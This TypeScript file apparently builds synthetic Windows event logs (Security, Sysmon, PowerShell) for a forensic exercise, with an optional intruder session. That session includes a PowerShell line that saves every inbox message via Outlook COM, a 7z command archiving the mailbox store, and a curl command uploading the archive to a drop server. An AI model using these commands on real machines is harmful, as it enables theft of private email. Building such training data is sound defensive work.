import { buildEvtx, type BuiltEvent } from '../evtx-builder/index.ts';
import { ann, dropServer, intruderInside, moment, workingDays, workstation } from './people.ts';

/** The logon session in which the intruder worked on the machine. */
const intruderSession = '0x3e7a1';
const store = `C:\\Users\\ann\\AppData\\Local\\Microsoft\\Outlook\\${ann.upn}.ost`;
const archive = 'C:\\Users\\Public\\report.7z';
const success = 0x8020_0000_0000_0000n;
const user = `${ann.windows.domain}\\${ann.windows.name}`;

type Unnumbered = Omit<BuiltEvent, 'identifier'>;

const logOf = (events: readonly Unnumbered[]): Uint8Array => {
  const sorted = [...events].sort((one, other) => ((one.time ?? '') < (other.time ?? '') ? -1 : 1));
  const numbered = sorted.map((event, index) => ({ ...event, identifier: index + 1, computer: workstation }));
  // As many as fit into a chunk with room to spare.
  const chunks = Array.from({ length: Math.ceil(numbered.length / 30) }, (_, index) => numbered.slice(index * 30, (index + 1) * 30));
  return buildEvtx(chunks).bytes;
};

const security = (eventId: number, time: string, data: BuiltEvent['data']): Unnumbered => ({
  eventId,
  time: `${time}.1230000Z`,
  provider: 'Microsoft-Windows-Security-Auditing',
  channel: 'Security',
  keywords: success,
  ...(data === undefined ? {} : { data }),
});

const logon = (time: string, session: string, type: string, address: string): Unnumbered =>
  security(4624, time, {
    SubjectUserSid: 'S-1-5-18',
    SubjectUserName: 'PC-ANN$',
    SubjectDomainName: 'FIRM',
    TargetUserSid: ann.sid,
    TargetUserName: ann.windows.name,
    TargetDomainName: ann.windows.domain,
    TargetLogonId: session,
    LogonType: type,
    LogonProcessName: 'User32 ',
    AuthenticationPackageName: 'Negotiate',
    WorkstationName: 'PC-ANN',
    IpAddress: address,
    IpPort: '0',
  });

const started = (time: string, session: string, image: string, commandLine: string, parent: string): Unnumbered =>
  security(4688, time, {
    SubjectUserSid: ann.sid,
    SubjectUserName: ann.windows.name,
    SubjectDomainName: ann.windows.domain,
    SubjectLogonId: session,
    NewProcessId: '0x1a2c',
    NewProcessName: image,
    CommandLine: commandLine,
    ParentProcessName: parent,
  });

const sysmon = (eventId: number, time: string, data: Readonly<Record<string, string>>): Unnumbered => ({
  eventId,
  time: `${time}.4560000Z`,
  provider: 'Microsoft-Windows-Sysmon',
  channel: 'Microsoft-Windows-Sysmon/Operational',
  userId: 'S-1-5-18',
  data: { UtcTime: time.replace('T', ' '), User: user, ...data },
});

const script = (time: string, text: string): Unnumbered => ({
  eventId: 4104,
  time: `${time}.7890000Z`,
  provider: 'Microsoft-Windows-PowerShell',
  channel: 'Microsoft-Windows-PowerShell/Operational',
  userId: ann.sid,
  data: {
    MessageNumber: '1',
    MessageTotal: '1',
    ScriptBlockText: text,
    ScriptBlockId: `b10c0000-0000-4000-8000-${time.replace(/\D/g, '').slice(2)}`,
    Path: '',
  },
});

/** The logs of the workstation by their names: mornings of work, and where asked for the intruder's session. */
export function workstationLogs(intruded: 'intruded' | 'quiet'): Readonly<Record<string, Uint8Array>> {
  const outlook = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE';
  const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
  const zipper = 'C:\\Program Files\\7-Zip\\7z.exe';
  const sessionOf = (days: number): string => `0x${(0x10000 + (days + 40) * 0x100).toString(16)}`;
  const isIntruded = intruded === 'intruded';
  return {
    'Security.evtx': logOf([
      ...workingDays.flatMap((days) => [
        logon(moment('07:00:00', days), sessionOf(days), '2', '127.0.0.1'),
        started(moment('07:01:00', days), sessionOf(days), outlook, `"${outlook}"`, 'C:\\Windows\\explorer.exe'),
      ]),
      ...(isIntruded
        ? [
            logon(moment('10:00:00'), intruderSession, '10', intruderInside),
            started(moment('10:04:00'), intruderSession, powershell, 'powershell.exe -NoProfile', 'C:\\Windows\\explorer.exe'),
            started(moment('10:06:00'), intruderSession, zipper, `7z.exe a ${archive} "${store}"`, powershell),
          ]
        : []),
    ]),
    'Microsoft-Windows-Sysmon%4Operational.evtx': logOf([
      ...workingDays.flatMap((days) => [
        sysmon(1, moment('07:01:00', days), {
          Image: outlook,
          CommandLine: `"${outlook}"`,
          ParentImage: 'C:\\Windows\\explorer.exe',
          ProcessId: '4000',
          LogonId: sessionOf(days),
        }),
        sysmon(3, moment('07:01:20', days), {
          Image: outlook,
          ProcessId: '4000',
          SourceIp: '10.1.0.20',
          SourcePort: '50000',
          DestinationIp: '198.51.100.10',
          DestinationHostname: 'outlook.office365.com',
          DestinationPort: '443',
        }),
        sysmon(11, moment('16:30:00', days), {
          Image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
          ProcessId: '4100',
          TargetFilename: `C:\\Users\\ann\\Documents\\minutes ${String(days)}.docx`,
        }),
      ]),
      ...(isIntruded
        ? [
            sysmon(1, moment('10:06:00'), {
              Image: zipper,
              CommandLine: `7z.exe a ${archive} "${store}"`,
              ParentImage: powershell,
              ProcessId: '6188',
              LogonId: intruderSession,
            }),
            sysmon(11, moment('10:06:30'), { Image: zipper, ProcessId: '6188', TargetFilename: archive }),
            sysmon(1, moment('10:10:00'), {
              Image: 'C:\\Windows\\System32\\curl.exe',
              CommandLine: `curl.exe -T ${archive} https://${dropServer}/up`,
              ParentImage: powershell,
              ProcessId: '6200',
              LogonId: intruderSession,
            }),
            sysmon(3, moment('10:10:02'), {
              Image: 'C:\\Windows\\System32\\curl.exe',
              ProcessId: '6200',
              SourceIp: '10.1.0.20',
              SourcePort: '50321',
              DestinationIp: dropServer,
              DestinationHostname: '',
              DestinationPort: '443',
            }),
          ]
        : []),
    ]),
    'Microsoft-Windows-PowerShell%4Operational.evtx': logOf([
      ...workingDays.map((days) => script(moment('08:00:00', days), 'Get-Printer | Where-Object Shared | Select-Object Name, PortName')),
      ...(isIntruded
        ? [
            script(
              moment('10:04:30'),
              '$o = New-Object -ComObject Outlook.Application; $n = $o.GetNamespace(\'MAPI\'); $n.GetDefaultFolder(6).Items | ForEach-Object { $_.SaveAs("C:\\Users\\Public\\$($_.EntryID).msg") }',
            ),
          ]
        : []),
    ]),
  };
}
